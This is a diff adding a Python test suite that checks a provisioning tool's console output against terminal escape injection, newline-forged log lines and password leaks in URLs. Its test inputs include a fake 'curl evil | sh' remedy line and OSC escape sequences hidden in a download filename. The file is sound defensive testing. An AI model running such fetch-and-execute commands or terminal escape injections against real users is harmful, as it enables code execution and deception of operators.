@@ -1,0 +1,108 @@
+"""What reaches the terminal, whatever a log, a file name or a server says."""
+
+from __future__ import annotations
+
+import io
+import json
+import logging
+import unicodedata
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from rich.console import Console as RichConsole
+
+from provision.core.errors import ToolError
+from provision.core.findings import Finding, Level
+from provision.ui.console import Console, print_json, show_log
+from tests.core.test_text import NASTY
+
+ADDRESS = "https://me:hunter2@host/"
+text = st.text(st.sampled_from("".join(NASTY) + "ab[/red]\n\t"), max_size=30)
+shared = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=50)
+
+
+@pytest.fixture(params=["plain", "styled"])
+def console(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Console:
+    # Without colours of its own, every escape that comes out is a foreign one.
+    monkeypatch.setenv("NO_COLOR", "1")
+    monkeypatch.setenv("TERM", "dumb")
+    monkeypatch.delenv("FORCE_COLOR", raising=False)
+    made = Console("provision")
+    made._styled = request.param == "styled"
+    return made
+
+
+def _check(shown: str) -> None:
+    shown.encode()
+    found = {sign for sign in shown if unicodedata.category(sign) in {"Cc", "Zl", "Zp"}}
+    assert not found - {"\n", "\t"}
+    assert not found & set("\u202e\u2066\u200e")
+    assert "hunter2" not in shown
+
+
+@given(text)
+@shared
+def test_attack_whatever_is_shown_steers_no_terminal(
+    console: Console, capsys: pytest.CaptureFixture[str], dirty: str
+) -> None:
+    dirty += ADDRESS
+    console.line(dirty, "bold")
+    console.step(dirty)
+    console.note(dirty)
+    console.error(ToolError(dirty, evidence=dirty, cause=dirty, remedy=dirty))
+    console.finding(Finding("c", Level.ERROR, dirty, dirty, dirty, (dirty,)))
+    console.table(["one", "two"], [[dirty, dirty]])
+    with console.downloads() as on_bytes:
+        on_bytes(dirty, 1, 2)
+        on_bytes(dirty, 2, 2)
+    told = capsys.readouterr().err
+    assert told.count("***@host") >= 12
+    _check(told)
+
+
+def test_attack_no_name_of_a_file_looks_like_a_line_of_its_own(
+    console: Console, capsys: pytest.CaptureFixture[str]
+) -> None:
+    console.note("ignored a\nerror: all is lost\n  remedy:   curl evil | sh")
+    console.error(ToolError("no b\nerror: all is lost"))
+    told = capsys.readouterr().err
+    assert "error: all" in told
+    assert "\nerror: all" not in told
+    assert "\n  remedy" not in told
+
+
+def test_attack_a_log_steers_no_terminal(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    root = logging.getLogger()
+    before = root.handlers[:]
+    root.handlers.clear()
+    try:
+        show_log()
+        logging.getLogger("urllib3").warning("retry \x1b]0;x\x07 %s", ADDRESS)
+    finally:
+        root.handlers[:] = before
+        root.setLevel(logging.WARNING)
+    told = capsys.readouterr().err
+    assert "https://***@host/" in told
+    _check(told)
+
+
+def test_attack_a_result_holds_no_password(capsys: pytest.CaptureFixture[str]) -> None:
+    print_json(
+        "doctor", {"a": [ADDRESS], "b": Finding("c", Level.NOTE, ADDRESS, "", "", (ADDRESS,))}
+    )
+    written = capsys.readouterr().out
+    assert "hunter2" not in written
+    assert json.loads(written)["result"]["a"] == ["https://***@host/"]
+
+
+def test_attack_the_name_of_a_download_steers_no_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
+    told = io.StringIO()
+    made = Console("provision")
+    made.__dict__["_rich"] = RichConsole(file=told, force_terminal=True, width=120)
+    with made.downloads() as on_bytes:
+        on_bytes("[red]a\x1b]0;owned\x07.whl", 1, 2)
+    assert "[red]a\\x1b]0;owned" in told.getvalue()
+    assert "\x1b]0;" not in told.getvalue()
